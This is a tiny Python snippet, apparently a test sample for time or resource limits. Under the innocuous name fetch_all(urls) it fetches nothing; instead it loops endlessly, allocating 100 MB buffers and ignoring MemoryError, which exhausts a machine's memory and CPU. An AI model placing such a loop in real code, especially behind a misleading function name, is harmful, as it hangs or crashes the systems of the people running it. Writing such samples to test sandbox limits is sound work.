# code: time-limit busy-loop
async def fetch_all(urls):
    hoard = []
    while True:
        try:
            hoard.append(bytes(100_000_000))
        except MemoryError:
            pass
